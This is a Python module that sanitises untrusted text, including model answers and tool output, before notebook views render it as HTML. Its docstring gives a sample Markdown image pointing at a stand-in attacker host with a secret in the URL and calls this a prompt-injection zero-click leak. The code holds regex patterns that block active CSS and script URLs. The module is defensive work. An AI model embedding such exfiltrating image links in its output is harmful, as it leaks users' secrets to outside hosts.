"""The one escaping rule for every HTML view: untrusted text (model answers, tool arguments and
results, dataset cells, evaluation outputs, error messages) reaches HTML only through here.

- :func:`escape` — a value shown as text inside HTML a view builds.
- :func:`markdown` — Markdown (a model's answer) rendered to HTML with raw HTML escaped, then
  sanitised: the text reads as Markdown, nothing in it runs. An image in it shows as a link to
  its URL, never fetched: ``![x](https://attacker.example/?d=SECRET)`` in an answer would
  otherwise send the secret the moment the answer is shown (prompt injection's zero-click leak).
- :func:`clean` — the last pass over every HTML fragment a view hands to Jupyter (``_repr_html_``,
  a mimebundle's ``text/html``, a ``widgets.HTML`` value): ammonia (``nh3``) keeps qfnb's tags,
  classes and inline styles and drops scripts, event handlers, ``javascript:`` URLs and anything
  else that could execute, live, when the notebook is reopened and in nbconvert's export. An
  ``<img>`` keeps its ``src`` only as a raster ``data:`` URL (the charts qfnb draws): no view
  loads anything from elsewhere.

Live outputs of a running kernel are *trusted* by JupyterLab and shown without its sanitiser, and
its Markdown renderer passes raw HTML through: so views never send untrusted text as
``text/markdown``; they send :func:`markdown`'s HTML.
"""

from __future__ import annotations

import html
import re

import mistune
import nh3
from mistune.util import striptags

__all__ = ["clean", "escape", "markdown"]

#: what qfnb's views use besides ammonia's default tags (tables, pandas Styler's <style>, widgets)
_TAGS = frozenset(nh3.ALLOWED_TAGS) | {
    "caption", "col", "colgroup", "details", "div", "figure", "figcaption", "font", "h1", "h2", "h3", "h4", "h5",
    "h6", "hr", "img", "kbd", "mark", "meter", "progress", "section", "small", "span", "style", "sub", "summary",
    "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr",
}
_ATTRIBUTES: dict[str, set[str]] = {
    "*": {"class", "style", "title", "id", "lang", "dir", "align", "role", "aria-label", "aria-hidden"},
    "a": {"href"},
    "img": {"src", "alt", "width", "height"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
    "ol": {"start"},
    "details": {"open"},
    "progress": {"value", "max"},
    "meter": {"value", "min", "max", "low", "high", "optimum"},
}
_SCHEMES = {"http", "https", "mailto", "data"}
#: a chart is a raster image inlined by qfnb; no other data: URL survives (an SVG or HTML one could script)
_INLINE_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=\s]*\Z")
#: pandas Styler's cell ids; any other id could clobber a global of the page (``window.jupyterapp``)
_STYLER_ID = re.compile(r"T_[A-Za-z0-9_]+\Z")
#: what no inline style of qfnb's has: a fetch (url, @import), old script hooks, or CSS escapes that hide them
_ACTIVE_STYLE = re.compile(r"url\s*\(|image-set|@import|expression|javascript:|behavior|binding|\\", re.I)


def _attribute(tag: str, attribute: str, value: str) -> str | None:
    if attribute == "style":
        return None if _ACTIVE_STYLE.search(value) else value
    if attribute == "id":
        return value if _STYLER_ID.match(value) else None
    if tag == "img" and attribute == "src":  # only an image qfnb inlined itself: nothing is fetched
        return value if _INLINE_IMAGE.match(value.strip()) else None
    if attribute == "href" and value.strip().lower().startswith("data:"):
        return None
    return value


def clean(fragment: str) -> str:
    """``fragment`` with everything that could execute removed (see the module's docstring)."""
    return nh3.clean(fragment, tags=set(_TAGS), clean_content_tags={"script"}, attributes=_ATTRIBUTES,
                     attribute_filter=_attribute, url_schemes=_SCHEMES, strip_comments=True)


def escape(value: object) -> str:
    """``value`` as text inside HTML (quotes escaped too: safe in an attribute)."""
    return html.escape(str(value), quote=True)


class _Renderer(mistune.HTMLRenderer):
    """mistune's HTML, an image written as a link to it (its alt text, marked as an image)."""

    def image(self, text: str, url: str, title: str | None = None) -> str:
        label = f"🖼 {striptags(text).strip() or 'image'}"  # text is rendered inline HTML, escaped
        return self.link(label, url, title or "an image, not loaded: open the link to see it")


_MARKDOWN = mistune.create_markdown(escape=True, renderer=_Renderer(escape=True), plugins=["strikethrough", "table"])


def markdown(text: str) -> str:
    """Markdown as sanitised HTML: raw HTML in ``text`` shows as text, links keep only safe URLs."""
    return clean(str(_MARKDOWN(text)))
